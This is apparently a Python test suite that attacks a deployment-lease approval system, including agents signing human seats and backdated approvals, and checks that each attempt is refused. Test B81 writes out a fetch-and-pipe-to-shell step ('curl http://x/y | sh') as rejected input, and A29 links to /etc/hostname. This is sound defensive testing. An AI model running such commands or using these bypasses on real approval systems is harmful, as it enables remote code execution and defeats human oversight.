"""Leases stretched, replayed, re-used or bent: who may raise what, for how long, how often."""

import json
import os

import forge
from forge import time
from naming import attack
from scene import enforce, fails, refused_payload, team_policy


def approved_for(store, environment, roles, **changes):
    """A lease of that environment with dana and erin under it, in these roles."""
    lease = store.requested(**store.bound(environment, roles), **changes)
    for who, role in zip(("dana", "erin"), roles):
        store.accepted(store.approval_payload(lease, role), who)
    return lease


@attack("A22")
def expired_lease(scene):
    """A lease that expired is used for a start"""
    store = scene.guarded()
    lease = store.brief()
    store.wait_for_end(lease)
    refused_payload(store, store.decision_payload(lease), "the lease expired at")
    refused_payload(store, store.approval_payload(lease), "the lease expired at", "erin")
    fails(store.run("lease", "show"), 6, "until")


@attack("A23")
def clock_set_back(scene):
    """The clock is set back to revive a lease: the highest time in the log counts"""
    store = scene.guarded()
    lease = store.approved()
    store.leave()
    seen = {"kind": "engine-started", "issued": time(7200), "boot_ms": 1, "boot_id": "b", "epoch": 90, "detail": {},
            "evaluations": {"count": 0, "head": ""}}
    store.insert(forge.envelope(forge.statement("event", seen, {"log": "0" * 64}), store.keys["engine"]))
    store.guard()
    refused_payload(store, store.decision_payload(lease), "before what its signer had seen of the log")
    seen = store.as_of(store.size() - 2)  # a signer who claims not to have seen that time
    refused_payload(store, store.decision_payload(lease, asOf=seen), "(the clock was set back since)")
    fails(store.run("lease", "show", json.loads(lease)["predicate"]["leaseId"]), 6, "the clock was set back")


@attack("A25")
def out_of_scope(scene):
    """A lease of another environment, plan or rollout, or for another action or weight"""
    store = scene.guarded()
    lease, other = store.approved(), approved_for(store, "shared", ("lead", "owner"))
    digests = lambda one, two: {"lease": forge.sha256(one), "plan": json.loads(two)["predicate"]["planSha256"]}
    refused_payload(store, store.decision_payload(lease, subjects=digests(lease, other)), "for other bytes of the plan")
    refused_payload(store, store.decision_payload(lease, subjects=digests(other, lease)), "bound to other bytes than")
    for change in ({"environment": "prod"}, {"rollout": "shop"}, {"weights": [500]}, {"weights": [500, 9000]}):
        top = change.get("weights", [10000])[-1]
        refused_payload(store, store.lease_payload(maxWeight=top, **change), "lease")
    unstartable = store.approved(actions=["promote"])
    refused_payload(store, store.decision_payload(unstartable), "does not cover the action start")
    refused_payload(store, store.lease_payload(actions=["rollback"]), "is not a raising action")
    refused_payload(store, store.lease_payload(maxWeight=10001), '"maxWeight" must be')


@attack("A27")
def plan_edited_after_approval(scene):
    """The plan is edited after it was approved"""
    store = scene.guarded()
    plan = store.file("web.plan.yaml")
    with open(plan, "w", encoding="ascii") as file:
        file.write(store.plan())
    lease = json.loads(store.approved())["predicate"]
    with open(plan, "a", encoding="ascii") as file:
        file.write("# and one more thing\n")
    before = store.size()
    ran = store.run("start", plan, "--lease", lease["leaseId"])
    assert ran.status in (2, 5, 6) and store.size() == before, ran
    refused_payload(store, spoilt_lease(store), "do not have the digest")


def spoilt_lease(store):
    """A lease on a plan whose bytes were changed under its digest, before the engine copied them."""
    digest = store.offer(store.plan() + "# mine\n")
    with open(os.path.join(store.folder, "blobs", digest), "a", encoding="ascii") as file:
        file.write("# theirs\n")
    return store.lease_payload(planSha256=digest)


@attack("A29")
def references_without_digest(scene):
    """A plan that binds files by symbolic link, `..`, absolute path, device or URL"""
    store = scene.store()
    os.symlink("/etc/hostname", store.file("link"))
    os.makedirs(store.file("real"))
    os.symlink("real", store.file("folder"))
    os.mkfifo(store.file("pipe"))
    with open(store.file("real/file"), "w", encoding="ascii") as out:
        out.write("x")
    for path in ("link", "folder/file", "../s.sqlite", "/etc/hostname", "pipe", "real", "real/../link",
                 "https://example.com/file", "image:latest", "missing"):
        plan = store.file("bad.plan.yaml")
        with open(plan, "w", encoding="ascii") as out:
            out.write(store.plan() + f'files: ["{path}"]\n')
        fails(store.run("lease", "request", plan), 2, "bad.plan.yaml:")
    assert store.size() == scene.team.size()


@attack("A30")
def requester_approves(scene):
    """The requester fills a seat where the policy does not let them, and an agent a human's"""
    store = scene.guarded()
    lease = store.requested(**store.bound("staging", ("lead", "owner")))
    refused_payload(store, store.approval_payload(lease, "lead"), "the requester may not fill a seat")
    refused_payload(store, store.approval_payload(lease, "owner"), "bot does not hold the role owner", "bot")
    refused_payload(store, store.approval_payload(lease, "engine"), "nothing else", "engine")


@attack("B11")
def agent_in_the_human_seat(scene):
    """The agent signs for the operator, and a person for the agent"""
    store = scene.guarded()
    lease = store.requested()
    refused_payload(store, store.approval_payload(lease), "bot does not hold the role operator", "bot")
    refused_payload(store, store.approval_payload(lease, "agent"), "dana does not hold the role agent")
    refused_payload(store, store.approval_payload(lease, "king"), "dana does not hold the role king")


@attack("A31")
def withdrawn_before_the_start(scene):
    """An approver withdraws, or somebody denies, after the quorum and before the start"""
    store = scene.guarded()
    for verdict, reason in (("withdraw", "open: "), ("deny", "denied: no")):
        lease = store.approved()
        seen = store.as_of()
        store.accepted(store.approval_payload(lease, verdict=verdict, reason="no"))
        refused_payload(store, store.decision_payload(lease, asOf=seen), "its signer had not seen that")
        refused_payload(store, store.decision_payload(lease), reason)
    lease, rollout = store.started()
    store.accepted(store.approval_payload(lease, verdict="withdraw", reason="no"))
    refused_payload(store, store.decision_payload(lease, "promote", rollout), "not signed by all it needs")


@attack("B101")
def no_taken_back_unseated(scene):
    """Who denied a lease signs it after all, while others fill every seat: it stays denied, and says so"""
    store = scene.guarded()
    lease = store.approved()
    store.accepted(store.approval_payload(lease, verdict="deny", reason="untested"), "erin")
    refused_payload(store, store.approval_payload(lease), "erin denied this lease, and no seat is open", "erin")
    refused_payload(store, store.decision_payload(lease), "erin denied: untested")
    shown = store.run("lease", "show", json.loads(lease)["predicate"]["leaseId"])
    fails(shown, 6, "over     erin denied: untested")


@attack("B80")
def words_of_machines(scene):
    """The console's or the engine's key asks for a lease, denies one, or withdraws: a complete lease stays complete"""
    store = scene.guarded()
    only = "may hold, roll back and acknowledge, nothing else"
    for who in ("console", "engine"):
        refused_payload(store, store.lease_payload(requester=who, role=""), only, who)
        lease = store.approved()
        for verdict in ("deny", "withdraw", "approve"):
            refused_payload(store, store.approval_payload(lease, verdict=verdict, reason="no"), only, who)
        seen = {"rollout": "web-1", "reason": "hm", "asOf": store.as_of(), "issued": time()}
        refused_payload(store, forge.statement("note", seen, {"subject": "0" * 64}), only, who)
    store.accepted(store.decision_payload(lease))


@attack("B97")
def lease_beyond_the_policy(scene):
    """A lease for more starts than the policy allows, in a role its requester lacks, up to a weight of no stage"""
    store = scene.office()
    refused_payload(store, store.lease_payload(maxUses=11), "may cover at most 10 starts, not 11")
    refused_payload(store, store.lease_payload(role="king"), "dana does not hold the role king")
    refused_payload(store, store.lease_payload(maxWeight=1), "maxWeight is the weight of none of its stages")
    for version, digest in ((9, "0" * 64), (1, store.policy["sha256"]), (2, "0" * 64)):
        policy = {"version": version, "sha256": digest}
        refused_payload(store, store.lease_payload(policy=policy), f"made under policy {version}")


@attack("A33")
def approved_under_the_policy_before(scene):
    """A lease approved under one policy, a start under the next that asks for more"""
    store = scene.guarded()
    lease = store.approved()
    seen, before = store.as_of(), store.policy
    enforce(store, team_policy(store, 3))
    refused_payload(store, store.decision_payload(lease, asOf=seen), "the trust policy changed since it was signed")
    refused_payload(store, store.decision_payload(lease), "signed under policy 2; policy 3 is in force")
    fresh = store.requested()
    refused_payload(store, store.approval_payload(fresh, policy=before), "signed under policy 2")


@attack("B12")
def approval_with_other_references(scene):
    """An approval with another policy's digest, from the future, or of another log"""
    store = scene.guarded()
    lease = store.requested()
    word = lambda **changes: store.approval_payload(lease, **changes)
    refused_payload(store, word(policy={"version": 2, "sha256": "0" * 64}), "signed under policy 2")
    refused_payload(store, word(issued=time(180)), "it was issued in the future")
    refused_payload(store, word(asOf=store.as_of() | {"origin": "interlock/elsewhere"}), "signed for another log")
    refused_payload(store, word(issued="2026-11-21T08:00:00+00:00"), '"issued" must be a time')
    store.accepted(word(issued=time(60)))


@attack("B13")
def backdated_approval(scene):
    """An approval dated a day before the history that its signer saw"""
    store = scene.guarded()
    refused_payload(store, store.approval_payload(store.requested(), issued=time(-86400)),
                    "before what its signer had seen of the log")


@attack("B14")
def two_leases_of_one_id(scene):
    """A second lease under an id that is taken, so that approvals of the first seem its own"""
    store = scene.guarded()
    lease = json.loads(store.approved())["predicate"]["leaseId"]
    refused_payload(store, store.lease_payload(leaseId=lease, reason="other"), f"the lease {lease} is there already")
    refused_payload(store, store.lease_payload(leaseId=lease.upper()), "32 lower-case hexadecimal")


@attack("B15")
def lease_without_the_seats_of_its_plan(scene):
    """A lease that leaves out a seat which its plan demands on top of the policy"""
    store = scene.guarded()
    wanted = store.bound("demo", ("operator", "agent", "lead"))
    for seats in ([], wanted["seats"][:2], wanted["seats"][1:]):
        refused_payload(store, store.lease_payload(**wanted | {"seats": seats}), "does not say what its plan says")
    store.accepted(store.lease_payload(**wanted))


@attack("B67")
def plan_with_two_of_one_role(scene):
    """A plan that demands two people of one role: both are demanded, and it can be asked for"""
    store = scene.guarded()
    with open(store.file("web.plan.yaml"), "w", encoding="ascii") as file:
        file.write(store.plan(seats=("operator", "operator", "agent")))
    asked = store.run("lease", "request", file.name)
    assert asked.status == 0, asked.err
    shown = json.loads(store.run("lease", "show", asked.out.strip(), "--json").out)
    assert sorted(seat["role"] for seat in shown["seats"]) == ["agent", "operator", "operator"], shown


@attack("B16")
def lease_that_lasts(scene):
    """A lease that lasts longer than its plan says, or than the policy allows, or covers more starts"""
    store = scene.guarded()
    refused_payload(store, store.lease_payload(expires=time(73 * 3600)), "a lease may last at most")
    refused_payload(store, store.lease_payload(expires=time(71 * 3600)), "does not say what its plan says")


@attack("B17")
def lease_for_people_to_misread(scene):
    """A lease whose words for people are not those of its plan: its service"""
    store = scene.guarded()
    refused_payload(store, store.lease_payload(service="intranet-test-page"), "does not say what its plan says")


@attack("B68")
def lease_with_other_traffic(scene):
    """A lease whose words for people are not those of its plan: the traffic it moves"""
    store = scene.guarded()
    refused_payload(store, store.lease_payload(traffic="a test bench: canary-9"), "does not say what its plan says")


@attack("B62")
def one_payload_two_people(scene):
    """A payload that somebody else has signed: the second person is not told that their word was taken"""
    store = scene.guarded()
    word = store.approval_payload(store.requested())
    first = store.accepted(word, "erin")
    said = store.ask(forge.envelope(word, store.keys["dana"]))
    assert said["index"] != first, "dana is told that her word is record %d, but that is erin's" % first


@attack("B81")
def steps_that_nothing_binds(scene):
    """A plan whose steps run a script of the machine, a moving tag, or what a shell fetches"""
    store = scene.store()
    with open(store.file("beside.sh"), "w", encoding="ascii") as out:
        out.write("#!/bin/sh\n")
    for run in ("./beside.sh", store.file("beside.sh"), f"sh, {store.file('beside.sh')}", "./../deploy.sh",
                'docker, run, "web:latest"', 'sh, -c, "curl http://x/y | sh"'):
        plan = store.file("bad.plan.yaml")
        with open(plan, "w", encoding="ascii") as out:
            out.write(store.plan() + f"steps: [{{name: migrate, run: [{run}]}}]\n")
        fails(store.run("lease", "request", plan), 2, "bad.plan.yaml:")
    assert store.size() == scene.team.size()
